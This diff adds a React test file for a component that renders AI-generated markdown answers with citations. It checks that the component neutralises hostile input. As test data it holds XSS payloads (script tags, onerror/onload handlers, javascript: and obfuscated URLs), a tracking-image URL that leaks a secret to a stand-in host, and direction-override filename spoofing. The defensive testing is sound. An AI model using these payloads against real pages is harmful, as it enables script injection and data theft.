@@ -1,0 +1,163 @@
+import { MantineProvider } from "@mantine/core";
+import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
+import { afterEach, describe, expect, it, vi } from "vitest";
+import { Answer } from "./Answer";
+import { CitationContext, type CitationScope } from "./citationContext";
+
+const open = vi.fn();
+const scope: CitationScope = {
+  known: new Set([1, 2]),
+  rejected: new Set([9]),
+  documentOf: (number) => (number === 1 ? "protocole.pdf" : null),
+  open,
+};
+
+function show(text: string, streaming = false) {
+  const { container } = render(
+    <MantineProvider>
+      <CitationContext value={scope}>
+        <Answer text={text} streaming={streaming} />
+      </CitationContext>
+    </MantineProvider>,
+  );
+  // The provider puts its own styles before it.
+  return container.lastElementChild as HTMLElement;
+}
+
+afterEach(() => {
+  cleanup();
+  open.mockClear();
+});
+
+describe("what a model's text may not do", () => {
+  it.each([
+    "<script>window.hacked = 1</script>",
+    "<img src=x onerror=alert(1)>",
+    "<iframe src='https://ailleurs.example'></iframe>",
+    "<svg onload=alert(1)>",
+    "texte <b onclick=alert(1)>gras</b>",
+    "<style>body { display: none }</style>",
+    "<form action='https://ailleurs.example'><input name=a></form>",
+  ])("shows %s as text", (html) => {
+    const page = show(`Avant\n\n${html}\n\naprès ${html}`);
+    expect(page.querySelector("script, img, iframe, svg, b, style, form, input, [onerror], [onclick]")).toBeNull();
+    expect(page.textContent).toContain(html);
+  });
+
+  it("fetches no image, remote or embedded, and shows where one would have come from", () => {
+    const page = show(
+      "![suivi](https://ailleurs.example/p.png?d=secret) ![a](data:image/png;base64,AAAA) ![b](/api/session) ![c][r]\n\n[r]: https://ailleurs.example/c.png",
+    );
+    expect(page.querySelector("img, picture, source, video, audio, object, embed")).toBeNull();
+    expect(page.innerHTML).not.toMatch(/src=|srcset=|url\(/);
+    expect(screen.getByRole("link", { name: /Image non affichée.*suivi/ }).getAttribute("href")).toBe(
+      "https://ailleurs.example/p.png?d=secret",
+    );
+  });
+
+  it.each([
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:a)",
+    "[x](/api/session)",
+    "[x](https://hopital.fr@ailleurs.example)",
+    "<javascript:alert(1)>",
+  ])("makes no link of %s", (markdown) => {
+    const page = show(markdown);
+    expect(page.querySelector("a, [href]")).toBeNull();
+  });
+
+  it("opens links elsewhere, without telling them where from, and shows the address", () => {
+    const page = show("[le guide](https://exemple.fr/guide) et https://exemple.fr/direct");
+    const [named, bare] = within(page).getAllByRole("link");
+    expect(named?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(named?.getAttribute("target")).toBe("_blank");
+    expect(page.textContent).toBe("le guide (exemple.fr/guide) et https://exemple.fr/direct");
+    expect(bare?.getAttribute("href")).toBe("https://exemple.fr/direct");
+  });
+
+  it("removes direction overrides", () => {
+    expect(show("[facture\u202Efdp.exe](https://exemple.fr/\u202Ex)").textContent).not.toMatch(/[\u202A-\u202E]/);
+  });
+
+  it("gives no ids, which could take the place of the page's own", () => {
+    const page = show("# content\n\nx[^1]\n\n[^1]: note");
+    expect(page.querySelector("[id]")).toBeNull();
+  });
+});
+
+describe("what is hard to show", () => {
+  it("scrolls a huge table by itself, in reach of the keyboard", () => {
+    const row = `|${" cellule |".repeat(30)}`;
+    const page = show([row, `|${"---|".repeat(30)}`, ...Array<string>(100).fill(row)].join("\n"));
+    const region = screen.getByRole("region", { name: /Tableau/ });
+    expect(region.getAttribute("tabindex")).toBe("0");
+    expect(page.querySelectorAll("tr")).toHaveLength(101);
+  });
+
+  it("shows an enormous table as plain text rather than freeze", () => {
+    const row = `|${" cellule |".repeat(60)}`;
+    const begun = performance.now();
+    const page = show([row, `|${"---|".repeat(60)}`, ...Array<string>(3000).fill(row)].join("\n"));
+    expect(performance.now() - begun).toBeLessThan(2000);
+    expect(page.querySelector("table")).toBeNull();
+    expect(page.textContent.length).toBeGreaterThan(1_000_000);
+  });
+
+  it.each([
+    ["quotations", ">".repeat(20_000)],
+    ["brackets", "[".repeat(20_000)],
+    ["asterisks", "*a ".repeat(5_000)],
+    ["nested lists", Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
+    ["open links", "[a](".repeat(5_000)],
+    ["autolinks", "a@".repeat(10_000)],
+  ])("survives many %s", (_, text) => {
+    const begun = performance.now();
+    expect(show(text).textContent).not.toBe("");
+    expect(performance.now() - begun).toBeLessThan(3000);
+  });
+});
+
+describe("citations", () => {
+  it("makes buttons of known numbers, which open the source with its sentence", () => {
+    show("Première phrase. La dose est de **2 g** par jour [1]. Autre [2].");
+    fireEvent.click(screen.getByRole("button", { name: /Source 1.*protocole\.pdf/ }));
+    expect(open).toHaveBeenCalledWith(1, "La dose est de 2 g par jour");
+    expect(screen.getAllByRole("button")).toHaveLength(2);
+  });
+
+  it("leaves other numbers in brackets, code and link texts alone", () => {
+    const page = show("Voir [5], `tab[1]` et [le [1]](https://exemple.fr).\n\n    x[1]");
+    expect(page.querySelector("button")).toBeNull();
+    expect(page.textContent).toContain("[5]");
+    expect(page.textContent).toContain("tab[1]");
+  });
+
+  it("shows a rejected number without a button", () => {
+    const page = show("Selon le texte [9].");
+    expect(page.querySelector("button")).toBeNull();
+    expect(screen.getByTitle(/ne correspond à aucun passage/).textContent).toBe("[9]");
+  });
+
+  it("finds marks in tables, lists and emphasis", () => {
+    show("| a |\n|---|\n| x [1] |\n\n- **y [2]**\n- z [1][2]");
+    expect(screen.getAllByRole("button")).toHaveLength(4);
+  });
+});
+
+describe("streaming", () => {
+  it("keeps the elements of finished blocks while the next ones come", () => {
+    const view = (text: string) => (
+      <MantineProvider>
+        <Answer text={text} streaming />
+      </MantineProvider>
+    );
+    const { container, rerender } = render(view("Un.\n\nDeux"));
+    const first = container.querySelector("p");
+    for (const text of ["Un.\n\nDeux.", "Un.\n\nDeux.\n\nTr", "Un.\n\nDeux.\n\n- Trois\n- Quatre"]) rerender(view(text));
+    expect(container.querySelector("p")).toBe(first);
+    expect(container.querySelectorAll("li")).toHaveLength(2);
+  });
+});
